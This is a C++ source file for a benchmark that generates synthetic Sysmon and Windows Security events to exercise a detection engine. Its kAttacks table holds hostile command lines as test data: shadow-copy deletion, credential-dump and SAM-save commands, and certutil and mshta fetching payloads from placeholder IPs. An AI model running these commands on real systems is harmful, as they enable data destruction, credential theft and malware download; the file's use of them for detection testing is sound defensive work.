// SPDX-License-Identifier: EUPL-1.2
#include "bench/event_generator.hpp"

#include <cstdio>

#include "core/json_text.hpp"

namespace vigie::bench {

namespace {

constexpr std::string_view kDepartments[] = {"finances",  "sante",   "interieur",   "justice",
                                             "education", "culture", "agriculture", "travail"};
constexpr std::string_view kFirstInitials[] = {"a", "b", "c", "d", "e", "f", "g",
                                               "j", "l", "m", "n", "p", "s", "t"};
constexpr std::string_view kSurnames[] = {"dupont",   "martin",  "bernard", "moreau",  "lefebvre",
                                          "garnier",  "durand",  "petit",   "leroy",   "roux",
                                          "fournier", "girard",  "bonnet",  "lambert", "fontaine",
                                          "rousseau", "vincent", "muller"};
// Benign images, with what they are typically run with.
struct Program {
    std::string_view image;
    std::string_view args;    // '#' becomes a random number, '@' a random word
    std::string_view parent;  // the image that usually starts it
};
constexpr std::string_view kExplorer = "C:\\Windows\\explorer.exe";
constexpr std::string_view kServices = "C:\\Windows\\System32\\services.exe";
constexpr std::string_view kSvchost = "C:\\Windows\\System32\\svchost.exe";
constexpr std::string_view kChrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
constexpr std::string_view kEdge =
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
constexpr std::string_view kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr Program kPrograms[] = {
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "--type=renderer --display-capture-permissions-policy-allowed --lang=fr "
     "--device-scale-factor=1 "
     "--num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=# "
     "--time-ticks-at-unix-epoch=-1716# --launch-time-ticks=# --field-trial-handle=#,i,#,#,262144 "
     "--variations-seed-version=# /prefetch:1",
     kChrome},
    {"C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s @", kServices},
    {"C:\\Windows\\System32\\svchost.exe", "-k LocalServiceNetworkRestricted -p", kServices},
    {"C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1", kCmd},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "/n \"\\\\fs02.@.intra\\partage\\@\\rapport_#.docx\" /o \"\"", kExplorer},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     "\"C:\\Users\\@\\Documents\\budget_#.xlsx\"", kExplorer},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-NoProfile -ExecutionPolicy RemoteSigned -File \"C:\\Scripts\\inventaire_@.ps1\" -Site @ "
     "-Verbose",
     kExplorer},
    {"C:\\Windows\\System32\\taskhostw.exe", "Install $(Arg0)", kSvchost},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=fr "
     "--service-sandbox-type=none "
     "--mojo-platform-channel-handle=# --field-trial-handle=#,i,#,#,262144 /prefetch:3",
     kEdge},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe",
     "-ServerName:BackgroundTaskHost.WebAccountProvider -Embedding", kSvchost},
    {"C:\\Program Files\\Java\\jre1.8.0_401\\bin\\javaw.exe",
     "-Xmx512m -Dfile.encoding=UTF-8 -jar \"C:\\Program Files\\Gestion\\@\\client-#.jar\" "
     "--server=@.intra",
     kExplorer},
    {"C:\\Windows\\System32\\msiexec.exe", "/V", kServices},
    {"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding", kSvchost},
    {"C:\\Windows\\explorer.exe", "", kServices},
    {"C:\\Program Files\\7-Zip\\7z.exe", "a -tzip \"D:\\archives\\@_#.zip\" \"D:\\exports\\@\\*\"",
     kExplorer},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe",
     "Global\\UsGthrFltPipeMssGthrPipe# Global\\UsGthrCtrlFltPipeMssGthrPipe# 1 -2147483646 "
     "\"Software\\Microsoft\\Windows "
     "Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
     "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" "
     "\"DownLevelDaemon\"",
     kSvchost},
    {"C:\\Windows\\System32\\gpupdate.exe", "/target:computer /force", kCmd},
    {"C:\\Program Files\\Notepad++\\notepad++.exe", "\"C:\\Users\\@\\Desktop\\notes_#.txt\"",
     kExplorer},
};
// Command lines that SigmaHQ rules are written for: the small share of events that alert.
constexpr Program kAttacks[] = {
    {"C:\\Windows\\System32\\whoami.exe", "/priv", kCmd},
    {"C:\\Windows\\System32\\vssadmin.exe", "delete shadows /all /quiet", kCmd},
    {"C:\\Windows\\System32\\certutil.exe",
     "-urlcache -split -f http://198.51.100.#/a.exe C:\\Users\\Public\\a.exe", kCmd},
    {"C:\\Windows\\System32\\rundll32.exe",
     "C:\\Windows\\System32\\comsvcs.dll, MiniDump # C:\\Windows\\Temp\\@.dmp full", kCmd},
    {"C:\\Windows\\System32\\reg.exe", "save HKLM\\SAM C:\\Windows\\Temp\\sam_#.save", kCmd},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-nop -w hidden -enc "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     kCmd},
    {"C:\\Windows\\System32\\net.exe", "user @ P@ssw0rd# /add", kCmd},
    {"C:\\Windows\\System32\\schtasks.exe",
     "/create /sc minute /mo 5 /tn @ /tr C:\\Users\\Public\\upd.exe /ru SYSTEM", kCmd},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe", "shadowcopy delete", kCmd},
    {"C:\\Windows\\System32\\bcdedit.exe", "/set {default} recoveryenabled No", kCmd},
    {"C:\\Windows\\System32\\mshta.exe", "http://203.0.113.#/payload.hta", kCmd},
    {"C:\\Windows\\System32\\nltest.exe", "/domain_trusts /all_trusts", kCmd},
};
constexpr std::string_view kNetworkImages[] = {
    kChrome,
    kEdge,
    kSvchost,
    "C:\\Program Files\\Java\\jre1.8.0_401\\bin\\javaw.exe",
    "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe"};
constexpr std::string_view kWords[] = {
    "comptabilite", "paie", "rh",       "achats",   "marches",  "archives",
    "Schedule",     "BITS", "wuauserv", "Dnscache", "EventLog", "Themes",
    "direction",    "dsi",  "courrier", "budget",   "tresor",   "audit"};
constexpr std::string_view kDomains[] = {"www.service-public.fr", "login.microsoftonline.com",
                                         "update.microsoft.com",  "intranet.gouv.local",
                                         "cdn.jsdelivr.net",      "api.github.com"};
constexpr std::string_view kDlls[] = {
    "C:\\Windows\\System32\\ntdll.dll",    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\advapi32.dll", "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\wininet.dll",  "C:\\Windows\\System32\\amsi.dll",
    "C:\\Windows\\System32\\clr.dll"};
constexpr std::string_view kRegistryKeys[] = {
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-"
    "18\\Products\\#",
    "HKU\\S-1-5-21-3284915417-1851367209-2440981355-#\\Software\\Microsoft\\Office\\16."
    "0\\Word\\MRU\\Item #",
    "HKLM\\System\\CurrentControlSet\\Services\\@\\Start",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU\\@"};

}  // namespace

uint64_t EventGenerator::next() {  // splitmix64: tiny, fast, and identical everywhere
    uint64_t z = (state_ += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

void EventGenerator::hex(std::string& out, size_t digits) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    for (size_t i = 0; i < digits; ++i) out += kHex[below(16)];
}

void EventGenerator::guid(std::string& out) {
    out += '{';
    for (size_t digits : {8, 4, 4, 4}) {
        hex(out, digits);
        out += '-';
    }
    hex(out, 12);
    out += '}';
}

// Sysmon's Hashes field: "SHA1=...,MD5=..." for the algorithms given with their lengths.
void EventGenerator::hashes_field(std::string& out, std::initializer_list<HashSpec> algorithms) {
    std::string hashes;
    for (const HashSpec& a : algorithms) {
        if (!hashes.empty()) hashes += ',';
        hashes += a.name;
        hashes += '=';
        hex(hashes, a.digits);
    }
    field(out, "Hashes", hashes);
}

EventGenerator::Host EventGenerator::host() {
    std::string dept(pick(kDepartments));
    uint64_t n = below(2000);
    char name[64];
    std::snprintf(name, sizeof name, "MIN-%.3s-WS%04llu.%s.intra", dept.c_str(),
                  static_cast<unsigned long long>(n), dept.c_str());
    for (char* p = name + 4; *p != '-'; ++p) *p = static_cast<char>(*p - 'a' + 'A');
    std::string user = std::string(pick(kFirstInitials)) + "." + std::string(pick(kSurnames));
    return {name, user,
            "10." + std::to_string(20 + below(8)) + "." + std::to_string(below(256)) + "." +
                std::to_string(1 + below(254))};
}

void EventGenerator::expand(std::string& out, std::string_view tmpl) {
    for (char c : tmpl) {
        if (c == '#') {
            out += std::to_string(below(100000));
        } else if (c == '@') {
            out += pick(kWords);
        } else {
            out += c;
        }
    }
}

// `,"name":"value"` (escaped).
void EventGenerator::field(std::string& out, std::string_view name, std::string_view value) {
    out += ",\"";
    out += name;
    out += "\":";
    append_json_string(out, value);
}

void EventGenerator::number_field(std::string& out, std::string_view name, uint64_t value) {
    out += ",\"";
    out += name;
    out += "\":";
    out += std::to_string(value);
}

void EventGenerator::system(std::string& out, bool sysmon, int event_id, const Host& h) {
    clock_ms_ += 1 + below(40);
    uint64_t s = clock_ms_ / 1000;
    char time[64];
    std::snprintf(time, sizeof time, "2026-11-19T%02llu:%02llu:%02llu.%03lluZ",
                  static_cast<unsigned long long>((s / 3600) % 24),
                  static_cast<unsigned long long>((s / 60) % 60),
                  static_cast<unsigned long long>(s % 60),
                  static_cast<unsigned long long>(clock_ms_ % 1000));
    out +=
        R"({"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{)";
    out +=
        sysmon
            ? R"("Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}})"
            : R"("Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}})";
    number_field(out, "EventID", static_cast<uint64_t>(event_id));
    out += R"(,"Version":5,"Level":4,"Task":)" + std::to_string(sysmon ? event_id : 12544);
    out +=
        R"(,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":")";
    out += time;
    out += "\"}}";
    number_field(out, "EventRecordID", ++record_id_);
    out += R"(,"Correlation":null,"Execution":{"#attributes":{"ProcessID":)" +
           std::to_string(1000 + below(8000)) + R"(,"ThreadID":)" +
           std::to_string(1000 + below(8000)) + "}}";
    field(out, "Channel", sysmon ? "Microsoft-Windows-Sysmon/Operational" : "Security");
    field(out, "Computer", h.computer);
    out += R"(,"Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{)";
    if (!sysmon) {
        out += R"("SubjectUserSid":"S-1-5-18")";
        return;
    }
    out += R"("RuleName":"-")";
    std::string utc(time);
    utc[10] = ' ';
    utc.pop_back();
    field(out, "UtcTime", utc);
}

void EventGenerator::process_creation(std::string& out, const Host& h) {
    const Program& p = chance(trigger_share_) ? kAttacks[below(std::size(kAttacks))]
                                              : kPrograms[below(std::size(kPrograms))];
    const std::string_view parent = p.parent;
    std::string g;
    guid(g);
    field(out, "ProcessGuid", g);
    number_field(out, "ProcessId", 1000 + below(60000));
    field(out, "Image", p.image);
    field(out, "FileVersion",
          "10.0.22621." + std::to_string(below(4000)) + " (WinBuild.160101.0800)");
    field(out, "Description", "Windows component");
    field(out, "Product", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System");
    field(out, "Company", "Microsoft Corporation");
    std::string_view base = p.image.substr(p.image.rfind('\\') + 1);
    field(out, "OriginalFileName", base);
    std::string cmd = "\"" + std::string(p.image) + "\" ";
    expand(cmd, p.args);
    field(out, "CommandLine", cmd);
    field(out, "CurrentDirectory", "C:\\Users\\" + h.user + "\\");
    field(out, "User", "MINISTERE\\" + h.user);
    g.clear();
    guid(g);
    field(out, "LogonGuid", g);
    field(out, "LogonId", "0x" + std::to_string(100000 + below(900000)));
    number_field(out, "TerminalSessionId", below(3));
    field(out, "IntegrityLevel", chance(0.2) ? "High" : "Medium");
    hashes_field(out, {{"SHA1", 40}, {"MD5", 32}, {"SHA256", 64}, {"IMPHASH", 32}});
    g.clear();
    guid(g);
    field(out, "ParentProcessGuid", g);
    number_field(out, "ParentProcessId", 1000 + below(60000));
    field(out, "ParentImage", parent);
    field(out, "ParentCommandLine",
          parent == kSvchost ? "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"
          : parent == kCmd   ? "C:\\Windows\\system32\\cmd.exe /c run.bat"
                             : std::string("\"") + std::string(parent) + "\"");
    field(out, "ParentUser", "MINISTERE\\" + h.user);
}

// The process that acts in a Sysmon event: its GUID, id and image.
void EventGenerator::acting_process(std::string& out, std::string_view image) {
    std::string g;
    guid(g);
    field(out, "ProcessGuid", g);
    number_field(out, "ProcessId", 1000 + below(60000));
    field(out, "Image", image);
}

void EventGenerator::network(std::string& out, const Host& h) {
    acting_process(out, pick(kNetworkImages));
    field(out, "User", "MINISTERE\\" + h.user);
    field(out, "Protocol", chance(0.9) ? "tcp" : "udp");
    out += R"(,"Initiated":true,"SourceIsIpv6":false)";
    field(out, "SourceIp", h.ip);
    field(out, "SourceHostname", h.computer);
    number_field(out, "SourcePort", 49152 + below(16000));
    field(out, "SourcePortName", "-");
    out += R"(,"DestinationIsIpv6":false)";
    field(out, "DestinationIp",
          std::to_string(20 + below(200)) + "." + std::to_string(below(256)) + "." +
              std::to_string(below(256)) + "." + std::to_string(1 + below(254)));
    field(out, "DestinationHostname", pick(kDomains));
    uint64_t port = chance(0.8) ? 443 : (chance(0.5) ? 80 : 53);
    number_field(out, "DestinationPort", port);
    field(out, "DestinationPortName", port == 443 ? "https" : port == 80 ? "http" : "domain");
}

void EventGenerator::file_create(std::string& out, const Host& h) {
    acting_process(out, kPrograms[below(std::size(kPrograms))].image);
    std::string target = "C:\\Users\\" + h.user + "\\AppData\\Local\\Temp\\";
    expand(target, chance(0.5) ? "@_#.tmp" : "@\\cache_#.dat");
    field(out, "TargetFilename", target);
    field(out, "CreationUtcTime", "2026-11-19 08:00:00.000");
    field(out, "User", "MINISTERE\\" + h.user);
}

void EventGenerator::registry_set(std::string& out, const Host& h) {
    field(out, "EventType", "SetValue");
    acting_process(out, kPrograms[below(std::size(kPrograms))].image);
    std::string key;
    expand(key, pick(kRegistryKeys));
    field(out, "TargetObject", key);
    field(out, "Details",
          chance(0.5) ? "DWORD (0x00000002)" : "C:\\Program Files\\Common Files\\update.exe");
    field(out, "User", "MINISTERE\\" + h.user);
}

void EventGenerator::image_load(std::string& out, const Host& h) {
    acting_process(out, kPrograms[below(std::size(kPrograms))].image);
    std::string_view dll = pick(kDlls);
    field(out, "ImageLoaded", dll);
    field(out, "FileVersion", "10.0.22621.1 (WinBuild.160101.0800)");
    field(out, "Description", "Windows library");
    field(out, "Product", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System");
    field(out, "Company", "Microsoft Corporation");
    field(out, "OriginalFileName", dll.substr(dll.rfind('\\') + 1));
    hashes_field(out, {{"SHA256", 64}});
    field(out, "Signed", "true");
    field(out, "Signature", "Microsoft Windows");
    field(out, "SignatureStatus", "Valid");
    field(out, "User", "MINISTERE\\" + h.user);
}

void EventGenerator::logon(std::string& out, const Host& h) {
    field(out, "SubjectUserName", h.computer.substr(0, h.computer.find('.')) + "$");
    field(out, "SubjectDomainName", "MINISTERE");
    field(out, "SubjectLogonId", "0x3e7");
    field(out, "TargetUserSid",
          "S-1-5-21-3284915417-1851367209-2440981355-" + std::to_string(1000 + below(5000)));
    field(out, "TargetUserName", h.user);
    field(out, "TargetDomainName", "MINISTERE");
    field(out, "TargetLogonId", "0x" + std::to_string(100000 + below(900000)));
    uint64_t type = chance(0.6) ? 3 : (chance(0.5) ? 2 : 10);
    number_field(out, "LogonType", type);
    field(out, "LogonProcessName", type == 3 ? "Kerberos" : "User32");
    field(out, "AuthenticationPackageName", type == 3 ? "Kerberos" : "Negotiate");
    field(out, "WorkstationName", h.computer.substr(0, h.computer.find('.')));
    std::string g;
    guid(g);
    field(out, "LogonGuid", g);
    field(out, "ProcessName", type == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe");
    field(out, "IpAddress", h.ip);
    field(out, "IpPort", std::to_string(49152 + below(16000)));
    field(out, "ImpersonationLevel", "%%1833");
    field(out, "ElevatedLogon", "%%1843");
}

void EventGenerator::append_event(std::string& out) {
    // Shares (percent) roughly as in a Windows fleet's Sysmon + Security stream.
    struct Kind {
        int cumulative_share;
        bool sysmon;
        int event_id;
        void (EventGenerator::*body)(std::string&, const Host&);
    };
    static constexpr Kind kKinds[] = {
        {30, true, 1, &EventGenerator::process_creation},
        {50, true, 3, &EventGenerator::network},
        {62, true, 11, &EventGenerator::file_create},
        {74, true, 13, &EventGenerator::registry_set},
        {86, true, 7, &EventGenerator::image_load},
        {100, false, 4624, &EventGenerator::logon},
    };
    Host h = host();
    const auto roll = static_cast<int>(below(100));
    const Kind* kind = kKinds;
    while (roll >= kind->cumulative_share) ++kind;
    system(out, kind->sysmon, kind->event_id, h);
    (this->*kind->body)(out, h);
    out += "}}}\n";
}

}  // namespace vigie::bench
